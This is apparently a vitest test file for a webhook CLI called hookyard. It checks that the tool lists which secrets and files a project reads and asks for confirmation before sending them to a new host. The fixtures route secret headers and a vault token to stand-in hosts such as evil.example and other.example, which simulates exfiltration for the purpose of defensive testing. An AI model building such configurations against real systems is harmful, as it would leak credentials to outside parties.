import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readsText } from '#hosts/cli/reads-text.ts';
import { respond, startReceiver } from '../support/scripted-receiver.ts';
import { createTempFolder } from '../support/temp-workspace.ts';
import { runCommand } from './command.ts';
import { startHost } from './running-host.ts';
import { hasTerminals, startOnTerminal } from './terminal.ts';

const keys = { CLOUD_KEY: 'a key of the cloud', OTHER_KEY: 'another key' };
const question = 'Read it, and go on? [y/N] ';

const projectTo = (url: string) =>
  `hookyard: 1\nendpoints:\n  Shop: { url: "${url}", signing: null, secretHeaders: { X-Key: env:CLOUD_KEY } }\n`;

function foreignProject(text = projectTo('https://elsewhere.example/in')) {
  const folder = createTempFolder();
  const file = join(folder, 'hookyard.yaml');
  writeFileSync(file, text);
  return { folder, file, common: ['--project', file, '--data-dir', join(folder, 'data')] };
}

/** A row of what is printed, however wide its columns are. */
const row = (...cells: readonly string[]) => new RegExp(cells.map((cell) => cell.replaceAll(/[.*+?^${}()|[\]\\/]/g, '\\$&')).join(' +'));

describe('what is read for a project', () => {
  it('is printed by apply, run and a dry run, which go on where nobody sits at a terminal', async () => {
    const receiver = await startReceiver([respond()]);
    const { file, folder, common } = foreignProject();
    const dry = await runCommand(['apply', '--dry-run', ...common], { env: keys });
    expect(dry).toMatchObject({ code: 0, stdout: expect.stringContaining('+ endpoints.Shop') });
    expect(dry.stderr).toMatch(row('env:CLOUD_KEY', 'endpoints.Shop', 'new', 'elsewhere.example'));
    // A dry run leaves it new.
    expect((await runCommand(['apply', ...common], { env: keys })).stderr).toMatch(
      row('env:CLOUD_KEY', 'endpoints.Shop', 'new', 'elsewhere'),
    );
    const again = await runCommand(['apply', ...common, '--json'], { env: keys });
    expect(again.stderr).toMatch(row('env:CLOUD_KEY', 'endpoints.Shop', 'elsewhere.example'));
    expect(again.stderr).not.toMatch(/\bnew\b/);
    expect(JSON.parse(again.stdout)).toMatchObject({ changes: [], isComplete: true });
    // Another host is new, for the same name.
    writeFileSync(file, projectTo('https://evil.example:8443/in'));
    expect((await runCommand(['apply', ...common], { env: keys })).stderr).toMatch(
      row('env:CLOUD_KEY', 'endpoints.Shop', 'new', 'evil.example:8443'),
    );
    mkdirSync(join(folder, 'bodies'));
    writeFileSync(join(folder, 'bodies/one.json'), '{"a":1}');
    writeFileSync(
      file,
      `hookyard: 1\nruns:\n  r:\n    to: ${receiver.url}\n    signing: { scheme: github-sha256 }\n    secret: env:OTHER_KEY\n    steps: [{ event: a, bodyFile: bodies/one.json }]\n`,
    );
    const ran = await runCommand(['run', 'r', ...common], { env: keys });
    expect(ran).toMatchObject({ code: 0 });
    const { host } = new URL(receiver.url);
    expect(ran.stderr).toMatch(row('env:OTHER_KEY', 'runs.r', 'new', host));
    expect(ran.stderr).toMatch(row('file:bodies/one.json', 'runs.r', 'new', host));
    // Without anything to read, nothing is said.
    writeFileSync(file, 'hookyard: 1\nendpoints: { Plain: { url: "http://127.0.0.1:9", signing: null } }\n');
    expect(await runCommand(['apply', ...common])).toMatchObject({ code: 0, stderr: '' });
  }, 60_000);

  it('is written out where a name of the file would be obeyed by the terminal or begin another row', () => {
    const text = readsText(
      [
        { what: 'file:a\nenv:HOME', thing: 'endpoints.S', hosts: [], key: 'k', isKnown: true },
        { what: 'env:A', thing: 'environments.dev', hosts: ['{{ vars.base }}/in', 'a.example'], key: 'l', isKnown: false },
        { what: 'env:A', thing: 'bins.b', hosts: [], key: 'm', isKnown: true },
      ],
      ['openapi.yaml'],
    );
    expect(text.split('\n')).toEqual([
      expect.stringMatching(/^READS +FOR +NEW +GOES TO$/),
      expect.stringMatching(/^env:A +environments\.dev +new +see below:$/),
      expect.stringMatching(/^ +→ a\.example$/),
      expect.stringMatching(/^ +→ wherever \{\{ vars\.base \}\}\/in leads$/),
      expect.stringMatching(/^ +→ any request that uses this variable$/),
      expect.stringMatching(/^file:a\\nenv:HOME +endpoints\.S +no URL of the project$/),
      expect.stringMatching(/^env:A +bins\.b +the bin$/),
      expect.stringMatching(/^openapi\.yaml +eventTypes +the workspace$/),
    ]);
  });

  it('has room in 80 columns, whatever is in it, and hides no row', () => {
    const long = `env:${'B'.repeat(4000)}`;
    const lines = readsText(
      [
        { what: 'env:AWS_KEY', thing: 'endpoints.Shop', hosts: ['evil.example'], key: 'k', isKnown: false },
        {
          what: long,
          thing: `endpoints.${'N'.repeat(100)}`,
          hosts: [`${'a.'.repeat(90)}evil.example`, 'b.example'],
          key: 'l',
          isKnown: false,
        },
      ],
      ['d'.repeat(300)],
    ).split('\n');
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(80);
    expect(lines.length).toBeLessThan(25);
    expect(lines[1]).toMatch(/^env:AWS_KEY +endpoints\.Shop +new +evil\.example$/);
    expect(lines[2]).toMatch(/^env:B+…B+ +endpoints\.N+…N+ +new +see below:$/);
    // The names and the hosts stand below, the hosts whole.
    const below = lines.slice(3).map((line) => line.trim());
    expect(below.join('')).toContain(`→ ${'a.'.repeat(90)}evil.example→ b.example`);
    expect(below.join('')).toContain(`endpoints.${'N'.repeat(100)}`);
  });
});

describe.skipIf(!hasTerminals)('at a terminal (skipped where there is no script of util-linux)', () => {
  it('apply asks before it reads what is new, and anything but yes leaves all as it was', async () => {
    const { common } = foreignProject();
    for (const answer of ['n\n', '\n', '\u0004', 'no, y\n']) {
      const asked = startOnTerminal(['apply', ...common], keys);
      await asked.shows(question);
      asked.type(answer);
      const { code, shown } = await asked.ended;
      expect({ answer, code }).toEqual({ answer, code: 2 });
      expect(shown).toMatch(row('env:CLOUD_KEY', 'endpoints.Shop', 'new', 'elsewhere.example'));
      expect(shown).toContain('Nothing was read, and nothing was done: --yes goes on without asking.');
    }
    const agreed = startOnTerminal(['apply', ...common], keys);
    await agreed.shows(question);
    agreed.type('y\n');
    expect(await agreed.ended).toMatchObject({ code: 0, shown: expect.stringContaining('+ endpoints.Shop') });
    const again = await startOnTerminal(['apply', ...common], keys).ended;
    expect(again).toMatchObject({ code: 0, shown: expect.stringContaining('There is nothing to change.') });
    expect(again.shown).not.toContain('[y/N]');
  }, 60_000);

  it('asks again for another host, and neither with --yes, in a dry run nor in CI', async () => {
    const { file, common } = foreignProject();
    const unasked = async (args: readonly string[], env: Readonly<Record<string, string>> = keys) => {
      const { code, shown } = await startOnTerminal([...args, ...common], env).ended;
      expect(shown).toMatch(row('env:CLOUD_KEY', 'endpoints.Shop'));
      expect({ code, isAsked: shown.includes('[y/N]') }).toEqual({ code: 0, isAsked: false });
    };
    await unasked(['apply', '--dry-run']);
    await unasked(['apply', '--yes']);
    writeFileSync(file, projectTo('https://evil.example/in'));
    await unasked(['apply', '--dry-run']);
    const asked = startOnTerminal(['apply', ...common], keys);
    await asked.shows(question);
    asked.type('n\n');
    expect(await asked.ended).toMatchObject({ code: 2 });
    await unasked(['apply'], { ...keys, CI: 'true' });
  }, 60_000);

  it('asks where a run sends a secret variable that the file does not refer to, and where a kept secret gets to another host', async () => {
    const given = `hookyard: 1
environments: { dev: { variables: { token: { secret: env:CLOUD_KEY } } } }
`;
    const endpoint = (url: string, header = '') => `endpoints: { Shop: { url: "${url}", signing: null${header} } }\n`;
    const { file, folder, common } = foreignProject(
      given + endpoint('https://shop.example/in', ', secretHeaders: { X-Key: env:OTHER_KEY }'),
    );
    expect(await runCommand(['apply', ...common], { env: keys })).toMatchObject({ code: 0 });
    await startHost(join(folder, 'data'));
    expect(await runCommand(['environments', 'use', 'dev', ...common.slice(2)])).toMatchObject({ code: 0 });
    writeFileSync(file, `${given}runs: { leak: { to: "http://other.example/x?t={{ vars.token }}", steps: [{ event: a.b }] } }\n`);
    const ran = startOnTerminal(['run', 'leak', ...common], keys);
    await ran.shows(question);
    ran.type('n\n');
    const run = await ran.ended;
    expect(run).toMatchObject({ code: 2, shown: expect.stringContaining('→ http://other.example') });
    expect(run.shown).toMatch(row('vault:dev/token', 'runs.leak', 'new'));
    writeFileSync(file, given + endpoint('https://evil.example/in'));
    const applied = startOnTerminal(['apply', ...common], keys);
    await applied.shows('1 of these is new. Read them, and go on? [y/N] ');
    applied.type('n\n');
    const moved = await applied.ended;
    expect(moved.code).toBe(2);
    expect(moved.shown).toMatch(row('kept:endpoints.…tHeaders.X-Key', 'endpoints.Shop', 'new', 'evil.example'));
    // So it is where the file refers to it, and the variable is not set.
    writeFileSync(file, given + endpoint('https://evil.example/in', ', secretHeaders: { X-Key: env:OTHER_KEY }'));
    const unset = startOnTerminal(['apply', ...common], { CLOUD_KEY: keys.CLOUD_KEY });
    await unset.shows('1 of these is new. Read them, and go on? [y/N] ');
    unset.type('n\n');
    const kept = await unset.ended;
    expect(kept.code).toBe(2);
    expect(kept.shown).toMatch(row('kept:endpoints.…tHeaders.X-Key', 'endpoints.Shop', 'new', 'evil.example'));
  }, 60_000);

  it('asks again when a variable behind a filter makes the host another one, and shows it beside a name that fills the screen', async () => {
    const project = (host: string) =>
      `hookyard: 1\nenvironments: { dev: { variables: { host: "${host}" } } }\nendpoints:\n  Shop: { url: "http://{{ vars.host | downcase }}/hooks", signing: null, secretHeaders: { X-Key: env:CLOUD_KEY } }\n`;
    const { file, common } = foreignProject(project('good.example'));
    const first = startOnTerminal(['apply', ...common], keys);
    await first.shows(question);
    first.type('y\n');
    expect(await first.ended).toMatchObject({ code: 0 });
    expect((await startOnTerminal(['apply', ...common], keys).ended).shown).not.toContain('[y/N]');
    const long = `env:${'B'.repeat(4000)}`;
    writeFileSync(
      file,
      `${project('EVIL.example')}  Long: { url: "http://127.0.0.1:9", signing: null, secretHeaders: { X-Key: ${long} } }\n`,
    );
    const asked = startOnTerminal(['apply', ...common], keys);
    await asked.shows('Read them, and go on? [y/N] ');
    asked.type('n\n');
    const { code, shown } = await asked.ended;
    expect(code).toBe(2);
    expect(shown).toMatch(/^ +→ http:\/\/evil\.example$/m);
    const list = shown.split('\n').filter((line) => !line.startsWith('hookyard:'));
    expect(Math.max(...list.map((line) => line.length))).toBeLessThanOrEqual(80);
  }, 60_000);

  it('run asks, and Ctrl-C at the question ends it without a request', async () => {
    const receiver = await startReceiver([respond()]);
    const { common } = foreignProject(
      `hookyard: 1\nruns:\n  r: { to: "${receiver.url}", signing: { scheme: github-sha256 }, secret: env:OTHER_KEY, steps: [{ event: a }] }\n`,
    );
    const stopped = startOnTerminal(['run', 'r', ...common], keys);
    await stopped.shows(question);
    stopped.type('\u0003');
    expect(await stopped.ended).toMatchObject({ code: 130 });
    expect(receiver.requests).toEqual([]);
    const agreed = startOnTerminal(['run', 'r', ...common], keys);
    await agreed.shows(question);
    agreed.type('yes\n');
    expect(await agreed.ended).toMatchObject({ code: 0 });
    expect(receiver.requests).toHaveLength(1);
  }, 60_000);
});

describe('a workspace that is written over a project with documents', () => {
  const document = JSON.stringify({
    openapi: '3.1.0',
    info: { title: 'Shop', version: '1' },
    webhooks: { 'order.paid': { post: { requestBody: { content: { 'application/json': { schema: { type: 'object' } } } } } } },
  });

  it('has the same bytes after apply; a document that is missing or outside is told, and its event types are in the file', async () => {
    const text = 'hookyard: 1\neventTypesFrom: [api/openapi.json]\nendpoints: { Plain: { url: "http://127.0.0.1:9", signing: null } }\n';
    const { folder, file } = foreignProject(text);
    const common = ['--data-dir', join(folder, 'data')];
    mkdirSync(join(folder, 'api'));
    writeFileSync(join(folder, 'api/openapi.json'), document);
    const done = async (...args: readonly string[]) => {
      const ended = await runCommand([...args, ...common]);
      expect(ended).toMatchObject({ code: 0 });
      return { ...ended, text: readFileSync(file, 'utf8') };
    };
    // Without the sample of a new workspace.
    await done('apply', '--project', file, '--prune', '--yes');
    const first = await done('export', '--project', folder);
    expect(first.stderr).toBe('');
    expect(first.text).toContain('eventTypesFrom: [api/openapi.json]\n');
    expect(first.text).not.toContain('order.paid:');
    expect((await done('apply', '--project', file)).stdout).toContain('There is nothing to change.');
    expect((await done('export', '--project', folder)).text).toBe(first.text);
    writeFileSync(join(folder, 'api/openapi.json'), document.replace('"object"', '"array"'));
    const edited = await done('export', '--project', folder);
    expect(edited.stderr).toBe(
      'hookyard: These event types are left to api/openapi.json, which has them otherwise now than when the workspace took them over: order.paid. Applying the file changes them in the workspace.\n',
    );
    expect(edited.text).toBe(first.text);
    expect((await done('apply', '--project', file)).stdout).toContain('~ eventTypes.order.paid\n');
    expect(await done('export', '--project', folder)).toMatchObject({ stderr: '', text: first.text });
    writeFileSync(file, first.text.replace('[api/openapi.json]', '[api/none.json, ../outside.json]'));
    const without = await done('export', '--project', folder);
    expect(without.stderr).toContain(`There is no api/none.json in ${folder}.`);
    expect(without.stderr).toContain('api/none.json, ../outside.json are left out of eventTypesFrom, since the text is missing;');
    expect(without.text).toContain('\n  order.paid:');
    expect((await done('apply', '--project', file)).stdout).toContain('There is nothing to change.');
    expect((await done('export', '--project', folder)).text).toBe(without.text);
  }, 60_000);

  it('is refused where the project is a folder, and into another one is whole', async () => {
    const folder = createTempFolder();
    mkdirSync(join(folder, '.hookyard'));
    writeFileSync(join(folder, '.hookyard/a.yaml'), 'hookyard: 1\neventTypesFrom: [openapi.json]\n');
    writeFileSync(join(folder, 'openapi.json'), document);
    const run = async (...args: readonly string[]) => await runCommand([...args, '--data-dir', join(folder, 'data')]);
    expect(await run('apply', '--project', folder, '--prune', '--yes')).toMatchObject({ code: 0 });
    expect(await run('export', '--project', folder)).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('has the project in files of its own'),
    });
    const file = join(folder, 'copy/hookyard.yaml');
    expect(await run('export', '--project', join(folder, 'copy'))).toMatchObject({ code: 0 });
    const text = readFileSync(file, 'utf8');
    expect(text).toContain('\n  order.paid:');
    expect(await run('apply', '--project', file)).toMatchObject({ stdout: expect.stringContaining('There is nothing to change.') });
    expect(await run('export', '--project', join(folder, 'copy'))).toMatchObject({ code: 0 });
    expect(readFileSync(file, 'utf8')).toBe(text);
  }, 60_000);
});
